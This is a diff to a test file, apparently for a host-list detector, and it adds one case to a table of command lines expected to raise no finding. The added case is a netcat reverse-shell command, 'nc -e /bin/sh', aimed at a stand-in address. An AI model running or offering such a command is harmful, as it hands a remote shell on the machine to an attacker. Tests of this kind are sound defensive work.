@@ -33,6 +33,7 @@ describe("from a host on a list", () => {
     "wget https://good.example/bad.example",
     "iptables -A OUTPUT -d 192.0.2.66 -j DROP",
     "dig bad.example",
+    "nc -e /bin/sh 192.0.2.66 80",
   ])("a mention stays quiet: %s", (line) => {
     expect(host().run(line)).toEqual([]);
   });
